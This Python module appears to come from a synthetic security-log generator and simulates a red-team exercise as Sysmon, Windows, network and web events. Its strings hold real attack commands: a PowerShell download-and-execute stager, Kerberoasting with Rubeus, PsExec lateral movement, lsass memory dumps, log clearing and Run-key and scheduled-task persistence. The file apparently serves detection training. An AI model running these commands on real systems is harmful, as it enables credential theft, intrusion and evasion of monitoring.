"""The red-team exercise: announced, on named machines, with real techniques, on the day of a real attack elsewhere."""

from __future__ import annotations

from typing import Any

from tools.story.benign.planned import encoded, remote_service
from tools.story.company import HOST, sid_of
from tools.story.formats import network, sysmon, web, windows
from tools.story.formats.sysmon import POWERSHELL, SYS32, Proc
from tools.story.recorder import Story, t

INCIDENT = "red-team-exercise"
_LAPTOP, _APP, _STATION = HOST["RT-WS01"], HOST["APP02"], HOST["WS-041"]
_STAGER = "IEX (New-Object Net.WebClient).DownloadString('http://pkg.northgate-testing.example/rt/a.ps1')"
_DUMP = "C:\\Windows\\Temp\\l.dmp"
_DISCOVERY = (
    "whoami /all",
    'net group "Domain Admins" /domain',
    "nltest /domain_trusts /all_trusts",
    "net view /domain",
    "systeminfo",
)
_SENSOR = (
    (2027170, "ET HUNTING PowerShell NonInteractive Command Common In Powershell Stagers"),
    (2026849, "ET POLICY WinRM wsman Access - Possible Lateral Movement"),
    (2027267, "ET POLICY PsExec service created"),
)


def _own_laptop(s: Story) -> Proc:
    """Discovery, Kerberoasting and the line to the testers' server; returns the shell."""
    windows.logon(s, _LAPTOP, t(2, "07:55"), "rt.alpha", 2)
    explorer = sysmon.resident(_LAPTOP, t(2, "08:00"), "explorer.exe", "rt.alpha")
    command = "powershell.exe -ep bypass"
    shell = sysmon.process(s, explorer, t(2, "08:04"), POWERSHELL, command, integrity="High")
    for order, command in enumerate(_DISCOVERY):
        at = t(2, "08:10") + order * 240_000
        sysmon.process(s, shell, at, f"{SYS32}{command.split()[0]}.exe", command, integrity="High")
    command, image = "Rubeus.exe kerberoast /outfile:C:\\RT\\k.txt", "C:\\RT\\Rubeus.exe"
    sysmon.process(s, shell, t(2, "08:51"), image, command, integrity="High", build="rt")
    for order, service in enumerate(("svc-sql", "svc-erp", "svc-backup", "svc-hrsync", "svc-deploy")):
        at = t(2, "08:52") + order * 700
        windows.service_ticket(s, HOST["DC01"], at, "rt.alpha", service, _LAPTOP.address, "0x17")
    for number in range(14):
        at, proc = t(2, "08:30") + number * 1_500_000, None if number % 3 else shell
        name = "rt-c2.northgate-testing.example"
        web.visit(s, _LAPTOP, at, name, proc=proc, sent=900, received=1200, seen=0.5)
    return shell


def _application_server(s: Story, laptop: Proc) -> None:
    """PsExec to the test server, memory of lsass, and the log cleared at the end."""
    at, user = t(2, "12:06"), "rt.bravo"
    service = remote_service(s, laptop, "APP02", at, user, "C:\\RT\\PsExec.exe", "-s cmd.exe")
    for order, (sid, signature) in enumerate(_SENSOR):
        flow = (_LAPTOP.address, s.port(), _APP.address, 445)
        network.alert(s, at + order * 1000, flow, sid, signature, "Potentially Bad Traffic", 2, app="smb")
    remote = sysmon.process(s, service, t(2, "12:07"), SYS32 + "cmd.exe", "cmd.exe")
    tool, command = "C:\\Windows\\Temp\\procdump64.exe", f"procdump64.exe -accepteula -ma lsass.exe {_DUMP}"
    dump = sysmon.process(s, remote, t(2, "12:15"), tool, command)
    sysmon.process_access(s, dump, t(2, "12:15:01"), "lsass.exe", "0x1fffff", SYS32 + "dbgcore.dll+6c3b")
    sysmon.file_created(s, dump, t(2, "12:15:04"), _DUMP)
    sysmon.process(s, remote, t(2, "12:40"), SYS32 + "vssadmin.exe", "vssadmin create shadow /for=C:")
    sysmon.process(s, remote, t(2, "13:10"), SYS32 + "wevtutil.exe", "wevtutil cl Security")
    windows.log_cleared(s, _APP, t(2, "13:10:01"), user)


def _warehouse(s: Story) -> None:
    """The part on the warehouse workstation, run as the second tester."""
    user = "rt.bravo"
    login: dict[str, Any] = {"source": _LAPTOP.address, "package": "NTLM", "workstation": "RT-WS01"}
    windows.logon(s, _STATION, t(2, "09:40"), user, 3, **login)
    wmi = sysmon.wmi_host(_STATION, t(2, "06:00"))
    command = f"powershell.exe -nop -w hidden -enc {encoded(_STAGER)}"
    shell = sysmon.process(s, wmi, t(2, "09:41"), POWERSHELL, command, user=user, integrity="High")
    web.visit(
        s,
        _STATION,
        t(2, "09:41:02"),
        "pkg.northgate-testing.example",
        proc=shell,
        plain="/rt/a.ps1",
        agent="Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.22621.2506",
        mime="text/plain",
        received=48_112,
    )
    key = f"HKU\\{sid_of(user)}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\RTCheck"
    sysmon.registry_set(s, shell, t(2, "09:52"), key, "C:\\RT\\check.exe")
    command = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\RT\\m.dmp full"
    dump = sysmon.process(s, shell, t(2, "10:12"), SYS32 + "rundll32.exe", command, integrity="High")
    sysmon.process_access(s, dump, t(2, "10:12:01"), "lsass.exe", "0x1fffff", SYS32 + "comsvcs.dll+2a311")
    command = "schtasks /create /tn RTCheck /tr C:\\RT\\check.exe /sc minute /mo 30"
    sysmon.process(s, shell, t(2, "10:30"), SYS32 + "schtasks.exe", command, integrity="High")


def write(s: Story) -> None:
    """Wednesday, 07:55 to 14:20."""
    with s.part("red-team", INCIDENT):
        shell = _own_laptop(s)
        _warehouse(s)
        _application_server(s, shell)
